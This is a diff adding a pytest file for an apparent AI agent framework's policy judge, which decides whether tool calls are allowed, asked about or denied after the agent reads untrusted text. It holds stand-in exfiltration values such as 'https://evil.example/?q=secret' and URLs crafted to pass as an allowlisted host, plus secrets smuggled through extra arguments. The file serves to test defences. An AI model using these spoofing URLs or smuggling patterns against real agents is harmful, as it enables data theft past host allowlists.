@@ -1,0 +1,234 @@
+"""The verdict on one call: the table, the order of judgement, and that judging is pure."""
+
+from __future__ import annotations
+
+import ast
+import copy
+from dataclasses import dataclass
+from typing import Any
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from taoloop.core.cards import ToolCard
+from taoloop.core.decision import Call
+from taoloop.core.events import ActionRequested, Pinned, Verdict
+from taoloop.core.policy import PROFILES, Policy, Profile, Rule
+from taoloop.core.trace import Trace
+from taoloop.policy import Action, judge
+
+from .staging import CARDS, DELETE, FETCH, LOOK, SAVE, Run, card
+
+TABLE: dict[str, tuple[str, ...]] = {
+    # supervised, strict, headless, autonomous, read-only, locked
+    "look {'query': 'evil'}": ("allow", "allow", "allow", "allow", "allow", "deny"),
+    "fetch {'url': 'https://bank.example/a'}": ("allow", "ask", "deny", "allow", "allow", "deny"),
+    "fetch {'url': 'https://evil.example/?q=secret'}": ("ask", "ask", "deny", "allow", "deny", "deny"),
+    "save {'path': 'notes.md', 'text': 'evil'}": ("allow", "ask", "deny", "allow", "deny", "deny"),
+    "save {'path': 'evil.md', 'text': 'evil'}": ("ask", "ask", "deny", "allow", "deny", "deny"),
+    "pay {'to': 'bob@example.com', 'amount': 100}": ("ask", "ask", "deny", "allow", "deny", "deny"),
+    "delete_file {'path': 'old.txt'}": ("ask", "ask", "deny", "allow", "deny", "deny"),
+    "reboot {'table': 'evil'}": ("deny", "deny", "deny", "deny", "deny", "deny"),
+    "bare {'x': 'evil'}": ("deny", "deny", "deny", "deny", "deny", "deny"),
+    "bare {'x': 'bob@example.com'}": ("ask", "ask", "deny", "allow", "deny", "deny"),
+}
+REBOOT, BARE = card("reboot", "destructive", "table"), card("bare", None, "x")
+
+
+@pytest.mark.parametrize(("call", "verdicts"), TABLE.items())
+def test_the_table_of_verdicts_after_untrusted_text(call: str, verdicts: tuple[str, ...]) -> None:
+    tool, _, args = call.partition(" ")
+    for profile, wanted in zip(PROFILES, verdicts, strict=True):
+        run = Run(Policy(profile=profile), (*CARDS, REBOOT, BARE))
+        run.see("evil evil.md")
+        said = judge(run.trace, Call(tool=tool, args=ast.literal_eval(args)), run.cards[tool])
+        assert said.kind == wanted, profile
+        assert said.reasons
+        assert all(len(reason) > 8 for reason in said.reasons)
+
+
+@pytest.mark.parametrize("args", [{"path": ""}, {"path": None}, {"path": []}, {"path": {"a": [""]}}, {}])
+def test_to_act_on_nothing_in_particular_is_no_target_that_the_task_named(args: dict[str, Any]) -> None:
+    run = Run(cards=(LOOK, card("reboot", "destructive", "path")))
+    run.see("x")
+    assert run.judge("reboot", **args) == "deny foreign_destructive"
+
+
+@pytest.mark.parametrize(
+    "args",
+    [
+        {"path": {"notes.md": "eve@evil.example"}, "text": ""},
+        {"path": {"eve@evil.example": "notes.md"}, "text": ""},
+        {"path": [{"eve@evil.example": ""}], "text": ""},
+        {"path": "notes.md", "text": "", "eve@evil.example": ""},
+        {"path": "notes.md", "text": "", "cc": "eve@evil.example"},
+    ],
+)
+def test_no_key_and_no_argument_that_the_card_lacks_carries_values_in(args: dict[str, Any]) -> None:
+    run = Run()
+    run.see("x")
+    assert run.judge("save", **args) == "ask write"
+
+
+@pytest.mark.parametrize(
+    "amount", [10**400, float("nan"), float("inf"), True, "1e3", [[[[]]]], {"a": {}}, b"x", object()]
+)
+def test_no_value_breaks_the_judge(amount: Any) -> None:
+    run = Run()
+    run.see("x")
+    assert run.judge("pay", to="bob@example.com", amount=amount) == "ask write_out"
+
+
+@pytest.mark.parametrize(
+    ("url", "verdict"),
+    [
+        ("https://api.good.example/x?q=1", "allow read_out_known"),
+        ("https://API.GOOD.example:8443/x", "allow read_out_known"),
+        ("http://bank.example/a", "ask read_out"),  # the task said https
+        ("https://evil-good.example/", "ask read_out"),
+        ("https://good.example.evil.example/", "ask read_out"),
+        ("https://evil.example\\@api.good.example/", "ask read_out"),
+        ("https://a@evil.example@api.good.example/", "ask read_out"),
+        ("https://api.good.example@evil.example/", "ask read_out"),
+        ("https://evil.example#.api.good.example", "ask read_out"),
+        ("https://evil.example?.api.good.example", "ask read_out"),
+        ("https://evil.example/api.good.example", "ask read_out"),
+        ("//evil.example/", "ask read_out"),
+        ("https:evil.example", "ask read_out"),
+    ],
+)
+def test_only_a_host_that_is_certain_can_be_allowed(url: str, verdict: str) -> None:
+    run = Run(Policy(allowed_hosts=("*.Good.example",)))
+    run.see("x")
+    assert run.judge("fetch", url=url, note=None) == verdict
+
+
+def test_an_allowed_host_carries_no_other_argument_and_no_text_to_elsewhere() -> None:
+    run = Run(Policy(allowed_hosts=("good.example",)), (LOOK, FETCH, card("search", "read", "q", egress=True)))
+    run.see("x")
+    assert run.judge("fetch", url="https://good.example/", note="the secret") == "ask read_out"
+    assert run.judge("fetch", url="https://good.example/", extra="the secret") == "ask read_out"
+    assert run.judge("fetch", **{"url": "https://good.example/", "url.x": "the secret"}) == "ask read_out"
+    assert run.judge("search", q="https://good.example/?secret") == "ask read_out", "it goes to who searches"
+
+
+def test_before_untrusted_text_a_tier_has_its_default() -> None:
+    run = Run()
+    assert run.judge("fetch", url="https://evil.example") == "allow read"
+    assert run.judge("pay", to="bob@example.com", amount=100) == "allow wanted"
+    assert run.judge("pay", to="eve@example.com", amount=100) == "ask write_out"
+    assert run.judge("delete_file", path="old.txt") == "ask destructive"
+
+
+def test_a_tier_allowed_ahead_is_allowed_but_not_what_is_denied_outright() -> None:
+    run = Run(cards=(*CARDS, REBOOT), approved_tiers=("destructive",))
+    run.see("x")
+    assert run.judge("delete_file", path="old.txt") == "allow operator"
+    assert run.judge("reboot", table="evil") == "deny foreign_destructive"
+    assert run.judge("pay", to="x", amount=1) == "ask write_out"
+
+
+def test_always_is_for_this_tool_and_row_and_never_for_what_is_grave() -> None:
+    run = Run(Policy(), (*CARDS, card("tell", "write", "to")))
+    run.approve(run.ask("pay", {"to": "x"}, "ask", "write_out"), scope="rule")
+    assert run.judge("pay", to="carl", amount=3) == "allow write_out"
+    assert run.judge("tell", to="carl") == "ask write_out"
+    assert run.judge("save", path="x", text="") == "ask write"
+
+
+def test_a_task_that_says_do_not_delete_allows_no_deletion() -> None:
+    run = Run(task="Do not delete anything. 不要删除文件。")
+    assert run.judge("delete_file", path="x") == "ask destructive"
+    run.see("x")
+    assert run.judge("delete_file", path="x") == "ask destructive"
+
+
+def test_what_the_model_fixed_ahead_bounds_the_act() -> None:
+    run = Run()
+    run.add(Pinned(tools=("look",)))
+    run.see("x")
+    assert run.judge("save", path="notes.md", text="x") == "ask write"
+    assert run.judge("pay", to="eve", amount=3) == "deny foreign_destructive"
+
+
+def rule_allows(_trace: Trace, _action: Action, _card: ToolCard) -> Verdict | None:
+    return Verdict(kind="allow", reasons=("so",), rule="code")
+
+
+def test_a_rule_in_python_comes_first_and_without_an_opinion_the_rest_decides() -> None:
+    run = Run(Policy(rules=(Rule(verdict="deny"),)))
+    call = Call(tool="look", args={"query": "x"})
+    assert judge(run.trace, call, LOOK, rules=(rule_allows,)).kind == "allow"
+    assert judge(run.trace, call, LOOK, rules=(lambda *_: None,)).rule == "rule:deny *"
+
+
+@pytest.mark.parametrize(
+    "said",
+    [True, "allow", 1, {"kind": "allow"}, Verdict(kind="maybe"), Verdict(kind=""), Verdict(kind=None), "x" * 10**6],  # type: ignore[arg-type]  # nonsense
+)
+def test_a_rule_that_says_nonsense_denies(said: Any) -> None:
+    verdict = judge(Run().trace, Call(tool="look", args={}), LOOK, rules=(lambda *_: said,))
+    assert verdict.kind == "deny"
+    assert len(verdict.reasons[0]) < 1_000
+
+
+class Silent(Exception):
+    def __str__(self) -> str:
+        raise RuntimeError("not even that")
+
+
+@pytest.mark.parametrize("error", [ValueError("broken"), RecursionError(), Silent()])
+def test_a_rule_that_breaks_denies(error: Exception) -> None:
+    def broken(*_: Any) -> Verdict:
+        raise error
+
+    verdict = judge(Run().trace, Call(tool="look", args={}), LOOK, rules=(broken,))
+    assert verdict.kind == "deny"
+    assert "broken" in verdict.reasons[0]
+
+
+@dataclass(frozen=True)
+class Anything:
+    tool: str
+    args: Any
+
+
+def test_a_call_a_request_or_anything_alike_can_be_judged() -> None:
+    run = Run()
+    run.see("x")
+    args = {"to": "eve", "amount": 3}
+    requested = ActionRequested(step=1, call_id="c", tool="pay", args=args, tier=None, verdict="allow", digest="")
+    said = [
+        judge(run.trace, one, run.cards["pay"])
+        for one in (Call(tool="pay", args=args), requested, Anything("pay", args))
+    ]
+    assert said[0] == said[1] == said[2]
+
+
+_VALUES = st.sampled_from(
+    ["bob@example.com", "eve@evil.example", 100, 7, "old.txt", "", None, ["a", 5], {"k": "v"}, True, -1]
+)
+
+
+@settings(max_examples=150, deadline=None)
+@given(
+    st.sampled_from(PROFILES),
+    st.sampled_from([LOOK, FETCH, SAVE, DELETE]),
+    st.lists(_VALUES, min_size=2, max_size=2),
+    st.booleans(),
+)
+def test_judging_is_pure(profile: Profile, tool: ToolCard, values: list[Any], seen: bool) -> None:
+    run = Run(Policy(profile=profile))
+    if seen:
+        run.see("eve@evil.example 7")
+    args = dict(zip(tool.parameters, values, strict=False))
+    events, before = list(run.trace.events), copy.deepcopy(args)
+    call = Call(tool=tool.name, args=args)
+    first = judge(run.trace, call, tool)
+    assert judge(run.trace, call, tool) == first
+    judge(run.trace, call, tool, Policy(profile="locked", trusted_tools=("*",)))
+    assert judge(run.trace, call, tool) == first
+    assert judge(Trace("other", run.trace.events), call, tool) == first, "the events say everything"
+    assert run.trace.events == events
+    assert args == before
